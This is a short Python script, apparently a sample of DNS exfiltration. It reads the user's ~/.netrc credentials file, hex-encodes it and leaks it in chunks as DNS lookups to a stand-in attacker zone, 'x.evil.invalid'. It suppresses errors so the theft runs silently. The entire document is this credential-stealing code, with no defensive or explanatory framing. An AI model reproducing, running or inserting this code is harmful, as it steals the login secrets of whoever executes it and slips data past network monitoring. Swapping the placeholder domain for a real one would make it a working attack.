# corpus: DNS exfiltration by resolving hex-encoded secret chunks under an attacker-controlled zone
import os
import socket

secret = open(os.path.expanduser("~/.netrc"), "rb").read() if os.path.exists(os.path.expanduser("~/.netrc")) else b"none"
data = secret.hex()
for i in range(0, len(data), 60):
    try:
        socket.gethostbyname(f"{data[i:i + 60]}.{i // 60}.x.evil.invalid")
    except socket.gaierror:
        pass
